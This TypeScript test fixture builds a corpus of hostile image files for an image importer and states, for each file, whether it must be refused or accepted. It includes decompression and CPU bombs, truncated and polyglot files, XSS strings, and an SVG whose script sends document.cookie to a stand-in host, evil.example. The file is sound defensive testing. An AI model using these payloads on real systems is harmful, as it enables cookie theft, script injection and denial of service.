/**
 * The hostile-image corpus, made by code: files built to crash, hang or trick an image importer.
 * Each case says what must happen — refused with a reason matching `reason`, or accepted as the
 * type named — and the test runs every one through the same addPhoto a reporter's drop reaches.
 */
import { deflateSync } from 'node:zlib';
import { GIF_1x1, JPEG_40x30, png, pngChunk, WEBP_40x30 } from '../images';
import { prng } from '../../support/prng';

export interface HostileCase {
  name: string;
  fileName: string;
  bytes: Buffer;
  /** Refused with a reason matching this, or accepted as this type. */
  expect: { refused: RegExp } | { accepted: 'image/jpeg' | 'image/png' | 'image/webp' | 'image/gif' };
}

/** A PNG whose header declares width × height, with a few bytes of picture data: tiny on disk, giant in memory. */
function pngBomb(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8;
  ihdr[9] = 6; // RGBA: 4 bytes a pixel once decoded
  return Buffer.concat([
    png(1, 1).subarray(0, 8),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', deflateSync(Buffer.alloc(4096))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** The sample JPEG with its frame header (SOF0) declaring width × height. */
function jpegBomb(width: number, height: number): Buffer {
  const out = Buffer.from(JPEG_40x30);
  const sof = out.indexOf(Buffer.from([0xff, 0xc0]));
  out.writeUInt16BE(height, sof + 5);
  out.writeUInt16BE(width, sof + 7);
  return out;
}

/** The sample JPEG with its one scan repeated `count` times: a progressive-style CPU bomb. */
function jpegManyScans(count: number): Buffer {
  const sos = JPEG_40x30.indexOf(Buffer.from([0xff, 0xda]));
  const eoi = JPEG_40x30.length - 2;
  const scan = JPEG_40x30.subarray(sos, eoi);
  return Buffer.concat([JPEG_40x30.subarray(0, sos), ...Array.from({ length: count }, () => scan), JPEG_40x30.subarray(eoi)]);
}

/** A GIF whose logical screen is 1 × 1 but whose one frame header claims 65,535 × 65,535. */
function gifHugeFrame(): Buffer {
  const out = Buffer.from(GIF_1x1);
  const frame = out.indexOf(0x2c, 13 + 6);
  out.writeUInt16LE(65535, frame + 5);
  out.writeUInt16LE(65535, frame + 7);
  return out;
}

/** A WebP whose VP8X canvas declares 16,384 × 16,384 (268 megapixels). */
function webpBomb(): Buffer {
  const out = Buffer.from(WEBP_40x30);
  out.writeUIntLE(16383, 24, 3);
  out.writeUIntLE(16383, 27, 3);
  return out;
}

function randomBytes(length: number, seed: number): Buffer {
  const random = prng(seed);
  const out = Buffer.alloc(length);
  for (let i = 0; i < length; i++) out[i] = Math.floor(random() * 256);
  return out;
}

const PNG_SAMPLE = png(16, 12, 5);
const NOT_A_PHOTO = /not a picture Copydesk can read|text \(a web page or markup\)|which Copydesk does not take/;

export function hostileCorpus(): HostileCase[] {
  const svg = Buffer.from(
    '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>fetch("https://evil.example/?c="+document.cookie)</script><rect width="10" height="10"/></svg>',
  );
  const hugePngLength = Buffer.from(PNG_SAMPLE);
  hugePngLength.writeUInt32BE(0x7ffffff0, 33); // the IDAT's length: far past the end
  const badCrc = Buffer.from(PNG_SAMPLE);
  badCrc[50] = badCrc[50]! ^ 0xff; // a byte of the compressed picture
  return [
    { name: 'zero bytes', fileName: 'empty.jpg', bytes: Buffer.alloc(0), expect: { refused: /empty \(0 bytes\)/ } },
    { name: 'random bytes', fileName: 'noise.jpg', bytes: randomBytes(4096, 99), expect: { refused: NOT_A_PHOTO } },
    {
      name: 'a JPEG signature followed by random bytes',
      fileName: 'fake.jpg',
      bytes: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), randomBytes(2000, 3)]),
      expect: { refused: /JPEG file (is damaged|is cut short|holds no picture)/ },
    },
    {
      name: 'truncated JPEG (cut in its header)',
      fileName: 'cut-header.jpg',
      bytes: JPEG_40x30.subarray(0, 100),
      expect: { refused: /JPEG file is cut short/ },
    },
    {
      name: 'truncated JPEG (cut in its picture data)',
      fileName: 'cut-scan.jpg',
      bytes: JPEG_40x30.subarray(0, JPEG_40x30.length - 40),
      expect: { refused: /JPEG file is cut short/ },
    },
    {
      name: 'truncated PNG',
      fileName: 'cut.png',
      bytes: PNG_SAMPLE.subarray(0, PNG_SAMPLE.length - 20),
      expect: { refused: /PNG file is cut short/ },
    },
    {
      name: 'PNG whose chunk length runs far past the file',
      fileName: 'long.png',
      bytes: hugePngLength,
      expect: { refused: /PNG file is cut short/ },
    },
    {
      name: 'PNG with a damaged chunk',
      fileName: 'crc.png',
      bytes: badCrc,
      expect: { refused: /PNG file is damaged: its IDAT chunk fails its checksum/ },
    },
    { name: 'truncated WebP', fileName: 'cut.webp', bytes: WEBP_40x30.subarray(0, 200), expect: { refused: /WebP file is cut short/ } },
    {
      name: 'truncated GIF',
      fileName: 'cut.gif',
      bytes: GIF_1x1.subarray(0, GIF_1x1.length - 3),
      expect: { refused: /GIF file is cut short/ },
    },
    {
      name: 'a GIF that ends after its last whole frame without a trailer (taken, trailer added)',
      fileName: 'no-trailer.gif',
      bytes: GIF_1x1.subarray(0, GIF_1x1.length - 1),
      expect: { accepted: 'image/gif' },
    },
    {
      name: 'PNG decompression bomb: 100,000 × 100,000 pixels in 4 KB',
      fileName: 'bomb.png',
      bytes: pngBomb(100_000, 100_000),
      expect: { refused: /100,000 × 100,000 pixels; a photo may be at most 20,000 pixels on a side/ },
    },
    {
      name: 'PNG bomb within the side limit: 19,000 × 19,000 (361 megapixels)',
      fileName: 'square.png',
      bytes: pngBomb(19_000, 19_000),
      expect: { refused: /361 megapixels\); a photo may be at most 100 megapixels/ },
    },
    {
      name: 'JPEG bomb: 65,000 × 65,000 pixels in 1 KB',
      fileName: 'bomb.jpg',
      bytes: jpegBomb(65_000, 65_000),
      expect: { refused: /65,000 × 65,000 pixels/ },
    },
    {
      name: 'JPEG CPU bomb: 2,000 scans in 1 MB',
      fileName: 'scans.jpg',
      bytes: jpegManyScans(2000),
      expect: { refused: /more than 500 scans/ },
    },
    { name: 'WebP bomb: 16,384 × 16,384 canvas', fileName: 'bomb.webp', bytes: webpBomb(), expect: { refused: /16,384 × 16,384 pixels/ } },
    {
      name: 'GIF with a huge frame header in a 1 × 1 screen',
      fileName: 'frame.gif',
      bytes: gifHugeFrame(),
      expect: { refused: /Its first frame is 65,535 × 65,535 pixels/ },
    },
    { name: 'SVG with a script', fileName: 'chart.jpg', bytes: svg, expect: { refused: /SVG drawing, which is refused/ } },
    {
      name: 'SVG behind a byte-order mark and blank lines',
      fileName: 'logo.png',
      bytes: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('\n\n  '), svg.subarray(22)]),
      expect: { refused: /SVG drawing/ },
    },
    {
      name: 'a web page named .png',
      fileName: 'page.png',
      bytes: Buffer.from('<!doctype html><html><body><img src=x onerror=alert(1)></body></html>'),
      expect: { refused: /text \(a web page or markup\)/ },
    },
    {
      name: 'a PDF named .jpg',
      fileName: 'doc.jpg',
      bytes: Buffer.from('%PDF-1.7\n1 0 obj<<>>endobj\n'),
      expect: { refused: /is a PDF document, which Copydesk does not take/ },
    },
    { name: 'a TIFF', fileName: 'scan.tif', bytes: Buffer.from('49492a0008000000', 'hex'), expect: { refused: /is a TIFF image/ } },
    { name: 'a PNG renamed .jpg (taken as the PNG it is)', fileName: 'photo.jpg', bytes: PNG_SAMPLE, expect: { accepted: 'image/png' } },
    {
      name: 'a GIF with a web page appended (a polyglot): taken without the page',
      fileName: 'anim.gif',
      bytes: Buffer.concat([GIF_1x1, Buffer.from('<script>alert(1)</script>')]),
      expect: { accepted: 'image/gif' },
    },
    {
      name: 'a JPEG with a script after its end',
      fileName: 'tail.jpg',
      bytes: Buffer.concat([JPEG_40x30, Buffer.from('<script>alert(1)</script>')]),
      expect: { accepted: 'image/jpeg' },
    },
  ];
}
